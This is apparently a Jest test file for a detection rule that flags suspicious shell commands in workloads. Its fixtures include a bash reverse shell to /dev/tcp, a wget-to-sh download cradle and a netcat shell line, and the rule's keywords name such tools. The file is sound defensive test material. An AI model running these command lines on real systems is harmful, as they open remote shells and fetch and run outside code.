import { describe, expect, it } from '@jest/globals';

import type { Workload } from '../../workload/types.js';
import { run } from '../../../test/support/rule.js';
import { argv, cronJob, sh } from '../../../test/support/workloads.js';
import { kqlSuspiciousCommand } from './kql-suspicious-command.js';

describe('kql-suspicious-command (seed IsSuspiciousCommand)', () => {
  it.each<[string, Workload, string]>([
    ['bash -i and /dev/tcp', sh('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'), '"bash -i", "/dev/tcp"'],
    ['a download cradle', sh('wget -qO- http://198.51.100.7/x | sh'), '"wget"'],
    ['nc with a following space', sh('nc 198.51.100.7 4444 -e /bin/sh'), '"nc "'],
    ['base64 -d', sh('echo aGk= | base64 -d'), '"base64 -d"'],
    [
      '/bin/sh -c inside one string',
      cronJob({ containers: [{ name: 'c', image: 'x', args: ['/bin/sh -c date'] }] }),
      '"/bin/sh -c"',
    ],
    [
      'a curl health check (a look-alike it cannot tell apart)',
      argv('curl', '-fsS', 'http://web/healthz'),
      '"curl"',
    ],
  ])('fires on %s', (_name, workload, terms) => {
    expect(run(kqlSuspiciousCommand, workload)).toEqual([{ path: '', detail: `body has ${terms}` }]);
    expect(kqlSuspiciousCommand.weight).toBe(1);
  });

  it.each<[string, Workload]>([
    ['an argv array /bin/sh, -c', argv('/bin/sh', '-c', 'date')],
    ['nc at the end of a string', sh('echo done;nc')],
    ['rsync -a', sh('rsync -a /data /backup')],
    ['python3 -c', sh('python3 -c "print(1)"')],
    ['evaluation', argv('run-evaluation', '--fast')],
    ['/dev/tcpdump', argv('ls', '/dev/tcpdump')],
  ])('does not fire on %s', (_name, workload) => {
    expect(run(kqlSuspiciousCommand, workload)).toEqual([]);
  });
});
